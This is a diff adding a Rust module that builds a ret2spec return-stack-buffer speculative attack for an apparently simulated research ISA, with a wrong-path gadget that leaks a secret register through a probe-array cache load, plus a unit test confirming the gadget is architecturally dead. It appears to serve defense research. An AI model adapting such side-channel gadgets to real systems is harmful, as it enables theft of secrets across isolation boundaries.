@@ -1,0 +1,116 @@
+//! ret2spec-style attack: steering through the return address stack.
+//!
+//! A helper performs a longjmp-style non-standard return (its return
+//! address is loaded from memory, pointing at a cleanup path). The RAS
+//! still predicts the conventional return site — which the attacker has
+//! arranged to be a GPR-transmit gadget. Because the loaded return
+//! address is slow (flushed), the `ret` stays unresolved for a full miss
+//! latency while the gadget runs on the wrong path with the victim's
+//! GPR secret live.
+//!
+//! No mis-training is required: the misprediction is structural, exactly
+//! the RSB under/overflow behaviour of ret2spec [35, 38].
+
+use crate::layout::*;
+use crate::util;
+use nda_isa::{Asm, Program, Reg};
+
+/// The longjmp buffer holding the *actual* return target.
+pub const JMP_BUF: u64 = 0x0075_0000;
+/// The victim's GPR secret source.
+pub const GPR_SECRET_CELL: u64 = 0x0076_0000;
+
+/// Attack repetitions.
+const ROUNDS: u64 = 8;
+
+/// Build the attack program for `secret`.
+pub fn program(secret: u8) -> Program {
+    let mut asm = Asm::new();
+    let ra = nda_isa::reg::RA;
+    let main = asm.new_label();
+    let victim = asm.new_label();
+    let helper = asm.new_label();
+    let cleanup = asm.new_label();
+    asm.jmp(main);
+
+    // helper: longjmp-style return — RA comes from memory (slow), so the
+    // RAS prediction (the call site's fall-through = the gadget) stands
+    // for a full miss latency.
+    asm.bind(helper);
+    asm.li(Reg::X6, JMP_BUF);
+    asm.ld8(ra, Reg::X6, 0); // actual target: cleanup (flushed -> slow)
+    asm.ret(); // predicted: gadget; actual: cleanup
+
+    // victim: loads its secret, calls the helper; the code *after* the
+    // call is the attacker-chosen gadget, architecturally unreachable.
+    asm.bind(victim);
+    asm.st8(ra, Reg::X19, 0);
+    asm.subi(Reg::X19, Reg::X19, 8);
+    asm.li(Reg::X4, GPR_SECRET_CELL);
+    asm.ld8(Reg::X15, Reg::X4, 0); // secret into a GPR (legitimate)
+    asm.call(helper);
+    // ---- wrong-path gadget (RAS predicts a return to here) ----
+    asm.shli(Reg::X8, Reg::X15, 9);
+    asm.li(Reg::X9, PROBE_BASE);
+    asm.add(Reg::X8, Reg::X8, Reg::X9);
+    asm.ld1(Reg::X10, Reg::X8, 0); // transmit
+    // ---- end gadget (never commits) ----
+    asm.bind(cleanup);
+    asm.li(Reg::X15, 0); // scrub
+    asm.addi(Reg::X19, Reg::X19, 8);
+    asm.ld8(ra, Reg::X19, 0);
+    asm.ret();
+
+    // --- main -----------------------------------------------------------
+    asm.bind(main);
+    asm.li(Reg::X19, 0x00E0_0000);
+    asm.li(Reg::X18, JMP_BUF);
+    asm.li_label(Reg::X28, cleanup);
+    asm.st8(Reg::X28, Reg::X18, 0);
+    util::emit_probe_flush(&mut asm);
+    asm.li(Reg::X2, GPR_SECRET_CELL);
+    asm.ld8(Reg::X3, Reg::X2, 0); // warm the secret cell
+    asm.fence();
+
+    let atk = asm.new_label();
+    asm.li(Reg::X9, 0);
+    asm.bind(atk);
+    asm.fence();
+    asm.li(Reg::X5, JMP_BUF);
+    asm.clflush(Reg::X5, 0); // widen the ret-resolution window
+    asm.call(victim);
+    asm.addi(Reg::X9, Reg::X9, 1);
+    asm.li(Reg::X26, ROUNDS);
+    asm.bltu(Reg::X9, Reg::X26, atk);
+
+    util::emit_recover(&mut asm);
+    asm.halt();
+
+    let mut p = asm.assemble().expect("ret2spec assembles");
+    p.data.push(nda_isa::DataInit {
+        addr: GPR_SECRET_CELL,
+        bytes: (secret as u64).to_le_bytes().to_vec(),
+    });
+    p
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use nda_isa::Interp;
+
+    #[test]
+    fn gadget_is_architecturally_dead_code() {
+        let p = program(42);
+        let mut i = Interp::new(&p);
+        let exit = i.run(20_000_000).expect("halts");
+        assert!(exit.halted);
+        assert_eq!(exit.faults, 0);
+        // X15 is scrubbed by cleanup (the recover loop reuses it as a
+        // timer register later); it must never still hold the secret.
+        assert_ne!(i.reg(Reg::X15), 42);
+        // The gadget never runs architecturally: X10 is written only by
+        // the gadget's probe load, so it must still be zero.
+        assert_eq!(i.reg(Reg::X10), 0);
+    }
+}
